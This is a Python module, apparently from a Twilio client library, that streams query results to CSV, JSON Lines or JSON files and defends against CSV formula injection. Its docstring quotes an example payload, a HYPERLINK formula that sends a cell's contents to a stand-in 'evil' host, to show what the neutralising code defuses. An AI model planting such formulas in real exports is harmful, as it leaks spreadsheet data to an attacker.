"""Exporting a query to CSV, JSON Lines or JSON, page by page, in constant memory.

Rows are made straight from the raw records of each page (no Resource
objects) and written before the next page is read, so memory holds a page or
two whatever the size of the list; a record Twilio's paging lists again on
the next page is written once. Values are written for a spreadsheet or a
warehouse: timestamps in ISO 8601 UTC (``2015-07-30T20:12:31Z``), prices and
other decimals as the text Twilio sent (``"-0.00750"``, no float rounding),
counts as integers, nested objects as JSON. Credential fields (an Account's
``auth_token``, a new API key's ``secret``) are left out unless named in
``fields=``. A path is written to a temporary file beside it and renamed at
the end, so a reader never sees half an export.

CSV cells that a spreadsheet would run as a formula are neutralised (OWASP's
"CSV injection" advice): a text cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a ``'`` in front, which Excel, Google
Sheets and LibreOffice take as "this is text" and do not show. A message body
``=HYPERLINK("http://evil/?"&A1)`` becomes ``'=HYPERLINK(...)``. The
exception is a cell that is a plain number, sign included (``+15558675310``,
``-0.00750``, ``-3``): a spreadsheet reads it as a number and runs nothing,
while a quote would change phone numbers and prices that every export has
and that users sort, sum and join on. ``raw_formulas=True`` writes every
cell as it is (for a warehouse or a script, not a spreadsheet). JSON and
JSON Lines are always raw: no JSON reader runs formulas.

:func:`aexport` is the same export awaited (``await qs.aexport(...)``): pages
read with ``apages()``, each page's rows written before the next is asked
for, by the same writer. The writing itself is plain blocking file I/O on the
event loop's thread, a page at a time: fine for a local file or an in-memory
buffer (a page of rows takes well under a millisecond to write); a slow
network file system would stall the loop for as long as each write takes.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import operator
import os
import re
import stat
import tempfile
import time
from collections.abc import AsyncIterator, Callable, Iterable, Iterator, Mapping, Sequence
from typing import IO, TYPE_CHECKING, Any, cast

from ..exceptions import FieldError
from ..logs import is_sensitive
from .report import BulkReport, Progress

if TYPE_CHECKING:
    from ..queryset import QuerySet
    from ..resource import Resource

__all__ = [
    "FORMATS",
    "aexport",
    "columns_of",
    "export",
    "neutralised",
    "row_values",
    "unique_pages",
    "write_rows",
]

FORMATS = ("csv", "jsonl", "json")
#: a column's payload values to its cells (Kind.exporter); None: a value is its own cell
Cell = Callable[[Sequence[Any]], list[Any]] | None
#: a record's cells, in the order of the columns
Row = Sequence[Any]
# What spreadsheets start a formula (or DDE call) with: OWASP's list.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A number, sign and all (E.164 "+15558675310", "-0.00750", "-1.5e3"): read as a number.
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?\Z")


def export(
    qs: QuerySet[Any],
    target: str | os.PathLike[str] | IO[str] | IO[bytes],
    *,
    format: str = "csv",
    fields: Sequence[str] | None = None,
    progress: Callable[[Progress], Any] | None = None,
    total: int | None = None,
    raw_formulas: bool = False,
) -> BulkReport:
    """Write every record ``qs`` matches to ``target``; see the module docstring.

    ``raw_formulas=True`` leaves CSV cells that start like a formula as they are.
    """
    columns = _checked(qs, format, fields)
    report = BulkReport(f"export {qs.model.__name__}")
    started = time.monotonic()
    header = [key for key, _ in columns]

    def fill(handle: IO[str]) -> None:
        out = RowWriter(handle, format, header, raw_formulas=raw_formulas)
        for items in unique_pages(qs, [key for key, _ in columns]):
            out.write_columns(column_values(items, columns))
            _count_page(report, items, started, progress, total)
        out.end()

    if isinstance(target, (str, os.PathLike)):
        with _temporary(os.fspath(target)) as handle:
            fill(handle)
    else:
        with _text_stream(target) as handle:
            fill(handle)
    report.elapsed = time.monotonic() - started
    return report


async def aexport(
    qs: QuerySet[Any],
    target: str | os.PathLike[str] | IO[str] | IO[bytes],
    *,
    format: str = "csv",
    fields: Sequence[str] | None = None,
    progress: Callable[[Progress], Any] | None = None,
    total: int | None = None,
    raw_formulas: bool = False,
) -> BulkReport:
    """:func:`export`, awaited: the same rows, file and report; pages read with
    ``apages()``, each written (blocking, see the module docstring) as it comes."""
    columns = _checked(qs, format, fields)
    report = BulkReport(f"export {qs.model.__name__}")
    started = time.monotonic()
    header = [key for key, _ in columns]

    async def fill(handle: IO[str]) -> None:
        out = RowWriter(handle, format, header, raw_formulas=raw_formulas)
        async for items in aunique_pages(qs, header):
            _count_page(report, items, started, progress, total)
            out.write_columns(column_values(items, columns))
        out.end()

    if isinstance(target, (str, os.PathLike)):
        with _temporary(os.fspath(target)) as handle:
            await fill(handle)
    else:
        with _text_stream(target) as handle:
            await fill(handle)
    report.elapsed = time.monotonic() - started
    return report


def _checked(
    qs: QuerySet[Any], format: str, fields: Sequence[str] | None
) -> list[tuple[str, Cell]]:
    if format not in FORMATS:
        raise ValueError(f"export format must be one of {', '.join(FORMATS)}, got {format!r}")
    return columns_of(qs.model, fields)


def columns_of(model: type[Resource], names: Sequence[str] | None) -> list[tuple[str, Cell]]:
    """(key, cell) for each column: the fields ``names`` gives (attributes or keys), or all."""
    specs, resource = model._meta.payload_fields, model.__name__
    by_name = {s.name: s for s in specs} | {s.key: s for s in specs if s.key}
    if isinstance(names, str):
        names = [names]
    chosen: list[tuple[str, Cell]] = []
    # Credentials (an Account's auth_token, a new key's secret) are written only when named.
    for name in names or [s.name for s in specs if not is_sensitive(s.key or s.name)]:
        spec = by_name.get(name)
        if spec is None or spec.key is None:
            known = ", ".join(s.key or s.name for s in specs)
            raise FieldError(f"{resource} has no field {name!r} to export; it has: {known}")
        chosen.append((spec.key, spec.kind.exporter()))
    return chosen


def _count_page(
    report: BulkReport,
    items: list[Mapping[str, Any]],
    started: float,
    progress: Callable[[Progress], Any] | None,
    total: int | None,
) -> None:
    report.pages += 1
    report.matched += len(items)
    report.succeeded += len(items)
    if progress is not None:
        progress(_progress(report, started, total))


def unique_pages(
    qs: QuerySet[Any], keys: Iterable[str] | None = None
) -> Iterator[list[Mapping[str, Any]]]:
    """The raw records of ``qs`` page by page, each once (:meth:`QuerySet.pages` leaves
    out a record a changing list shows again), built into nothing: in date partitions
    merged in the list's order when the query allows (``qs.concurrently()``). With
    ``keys``, a record may hold only those (``QuerySet.for_bulk(keys=)``)."""
    for page in qs.for_bulk(keys=keys).pages():
        yield page.raw


async def aunique_pages(
    qs: QuerySet[Any], keys: Iterable[str] | None = None
) -> AsyncIterator[list[Mapping[str, Any]]]:
    """:func:`unique_pages`, read with ``apages()``."""
    async for page in qs.for_bulk(keys=keys).apages():
        yield page.raw


def row_values(
    items: Iterable[Mapping[str, Any]], columns: list[tuple[str, Cell]]
) -> list[Row]:
    """Each record's cells, in the order of ``columns`` (None where it has no value)."""
    return list(zip(*column_values(items, columns), strict=True))


def column_values(
    items: Iterable[Mapping[str, Any]], columns: list[tuple[str, Cell]]
) -> list[Sequence[Any]]:
    """The cells of each of ``columns``, a record's in each at the same place.

    A page at a time, a column at a time: each column's values taken by an
    ``itemgetter`` mapped over the records, converted as a whole when its kind
    has cells of its own (an export's CPU goes mostly here)."""
    items = items if isinstance(items, list) else list(items)
    cells: list[Sequence[Any]] = []
    try:
        for key, convert in columns:
            column = list(map(operator.itemgetter(key), items))
            cells.append(column if convert is None else convert(column))
    except KeyError:  # a record without some field
        cells = [[item.get(key) for item in items] for key, _ in columns]
        cells = [c if f is None else f(c) for c, (_, f) in zip(cells, columns, strict=True)]
    return cells


def _progress(report: BulkReport, started: float, total: int | None) -> Progress:
    return Progress(
        operation=report.operation,
        done=report.succeeded,
        total=total,
        succeeded=report.succeeded,
        skipped=0,
        failed=0,
        unknown=0,
        planned=0,
        elapsed=time.monotonic() - started,
        concurrency=1,
    )


# --- writing --------------------------------------------------------------------------


@contextlib.contextmanager
def _temporary(path: str) -> Iterator[IO[str]]:
    """A text file beside ``path`` that becomes ``path`` when the block ends without error
    (and is removed when it does not): no reader sees half an export."""
    folder = os.path.dirname(os.path.abspath(path))
    fd, temporary = tempfile.mkstemp(prefix=".export-", suffix=".part", dir=folder)
    try:
        with os.fdopen(fd, "w", encoding="utf-8", newline="") as handle:
            yield handle
        os.replace(temporary, path)
    except BaseException:
        os.unlink(temporary)
        raise


@contextlib.contextmanager
def _text_stream(target: IO[str] | IO[bytes]) -> Iterator[IO[str]]:
    """``target`` as text: a binary file is wrapped (UTF-8) and handed back unclosed."""
    if isinstance(target, (io.RawIOBase, io.BufferedIOBase)) or "b" in getattr(target, "mode", ""):
        text = io.TextIOWrapper(cast(IO[bytes], target), encoding="utf-8", newline="")
        try:
            yield text
        finally:
            text.flush()
            text.detach()
        return
    yield cast(IO[str], target)


def write_rows(
    handle: IO[str],
    format: str,
    header: list[str],
    rows: Iterable[Row],
    *,
    raw_formulas: bool = False,
) -> None:
    """Write ``rows`` (cells in the order of ``header``) to ``handle`` as ``format``.

    CSV cells that start like a formula are neutralised unless ``raw_formulas``.
    """
    out = RowWriter(handle, format, header, raw_formulas=raw_formulas)
    out.write(rows)
    out.end()


class RowWriter:
    """Writes rows to ``handle`` as ``format`` a batch at a time (the header at once, the
    end of a JSON array at :meth:`end`): what :func:`write_rows` and :func:`aexport` use."""

    def __init__(
        self, handle: IO[str], format: str, header: list[str], *, raw_formulas: bool = False
    ) -> None:
        self.handle = handle
        self.format = format
        self.header = header
        self.rows = 0
        if format == "csv":
            self.raw = raw_formulas
            self.lines = _Lines()
            self.end_of_line = line_end(handle)
            self.csv = csv.writer(self.lines, lineterminator=self.end_of_line)
            self.csv.writerow(header)
            handle.write(self.lines.take())
        elif format == "json":
            handle.write("[")

    def write(self, rows: Iterable[Row]) -> None:
        handle, header = self.handle, self.header
        if self.format == "csv":
            rows = rows if isinstance(rows, list) else list(rows)
            widths = set(map(len, rows))
            wide = len(widths) == 1 and min(widths) > 1  # rows of one width: as columns
            if not (self.raw and wide and self._write_page(list(zip(*rows, strict=True)))):
                self._write_csv(_csv_rows(rows) if self.raw else _safe_csv_rows(rows))
            handle.write(self.lines.take())
        elif self.format == "jsonl":
            for row in rows:
                handle.write(_json(dict(zip(header, row, strict=True))) + "\n")
        else:
            for row in rows:
                start = "\n" if self.rows == 0 else ",\n"
                handle.write(start + _json(dict(zip(header, row, strict=True))))
                self.rows += 1

    def end(self) -> None:
        if self.format == "json":
            self.handle.write("\n]\n")

    def write_columns(self, cells: list[Sequence[Any]]) -> None:
        """Write the rows whose cells ``cells`` gives a column at a time (what
        :func:`column_values` makes): a raw CSV page that needs no quoting is joined
        from them with no row made; anything else is :meth:`write` of the rows."""
        if self.format != "csv":
            self.write(list(zip(*cells, strict=True)))
            return
        if not (self.raw and self._write_page(cells)):
            rows = list(zip(*cells, strict=True))
            self._write_csv(_csv_rows(rows) if self.raw else _safe_csv_rows(rows))
        self.handle.write(self.lines.take())

    def _write_page(self, cells: list[Sequence[Any]]) -> bool:
        """Write the rows of ``cells`` (columns) as one text when every cell is text and
        none needs quoting (no comma, quote or line break, told by counting them in the
        page's text: the usual page of a raw export); False, writing nothing, when not."""
        count = len(cells[0]) if cells else 0
        if not count or len(cells) < 2:
            return False
        try:  # zip's tuple is used again once each join is done with it: no row is made
            text = "\n".join(map(",".join, zip(*cells, strict=True)))
        except TypeError:  # a cell that is not text
            return False
        if (
            '"' in text
            or "\r" in text
            or text.count("\n") != count - 1
            or text.count(",") != (len(cells) - 1) * count
        ):
            return False
        end = self.end_of_line
        self.lines.append((text if end == "\n" else text.replace("\n", end)) + end)
        return True

    def _write_csv(self, rows: Iterable[Row]) -> None:
        """``rows`` (cells of text, numbers or None) as the csv module writes them.

        The csv module reads every character of a cell to decide whether to
        quote it (about half an export's CPU); a row of two or more cells in
        which no cell holds a comma, a quote or a line break needs no quoting,
        so it is joined with commas in one call (counting the commas in the line
        tells whether a cell had one). Any other row is written by the module.
        """
        lines, end, other = self.lines, self.end_of_line, self.csv.writerow
        text = _TEXT.issuperset
        for row in rows:
            if text(map(type, row)):
                line = ",".join(row)
            else:  # text of a str subclass as it is (the csv module's way), numbers by str()
                line = ",".join(
                    ["" if v is None else v if isinstance(v, str) else str(v) for v in row]
                )
            if (
                line.count(",") == len(row) - 1
                and len(row) > 1
                and '"' not in line
                and "\n" not in line
                and "\r" not in line
            ):
                lines.append(line + end)
            else:
                other(row)


class _Lines(list[str]):
    """Where a :class:`RowWriter`'s CSV lines wait, in order, for one write a page."""

    def write(self, line: str) -> None:  # the csv module's writer writes here
        self.append(line)

    def take(self) -> str:
        text = "".join(self)
        self.clear()
        return text


def line_end(handle: IO[Any]) -> str:
    """How CSV lines end on ``handle``: ``\n`` on a terminal, a pipe or a socket (what
    shell tools read line by line: ``$(twiliorm ls ... | tail -1)`` must not end in a
    carriage return), RFC 4180's CRLF in a file or anything else."""
    try:
        descriptor = handle.fileno()
        mode = os.fstat(descriptor).st_mode
    except (AttributeError, OSError, ValueError):  # io.UnsupportedOperation is both
        return "\r\n"
    streaming = os.isatty(descriptor) or stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode)
    return "\n" if streaming else "\r\n"


#: cells the csv module writes as twiliorm does (None as "", numbers by str())
_AS_WRITTEN = frozenset({str, int, float, type(None)})
_TEXT = frozenset({str})


def _csv_rows(rows: Iterable[Row]) -> list[Row]:
    """``rows`` as CSV cells: a row of text, numbers and None as it is (the usual row: its
    cells' types told in C), another cell by cell (:func:`_csv`)."""
    plain = _AS_WRITTEN.issuperset
    return [row if plain(map(type, row)) else [_csv(v) for v in row] for row in rows]


def _safe_csv_rows(rows: Iterable[Row]) -> list[Row]:
    """:func:`_csv_rows` with cells that start like a formula neutralised."""
    start, other = _FORMULA_START, _safe_csv
    return [
        [v if type(v) is str and not v.startswith(start) else other(v) for v in row] for row in rows
    ]


def _csv(value: Any) -> Any:
    if type(value) is str:  # most cells: no isinstance() against ABCs for them
        return value
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (Mapping, list)):
        return _json(value)
    return value


def _safe_csv(value: Any) -> Any:
    cell = _csv(value)
    return neutralised(cell) if isinstance(cell, str) else cell


def neutralised(cell: str) -> str:
    """``cell`` with a ``'`` in front when a spreadsheet would run it as a formula.

    A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
    return, unless it is a plain number (``+15558675310``, ``-0.00750``),
    which spreadsheets read as a number: see the module docstring for why.
    """
    if cell.startswith(_FORMULA_START) and not _NUMBER.match(cell):
        return "'" + cell
    return cell


def _json(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
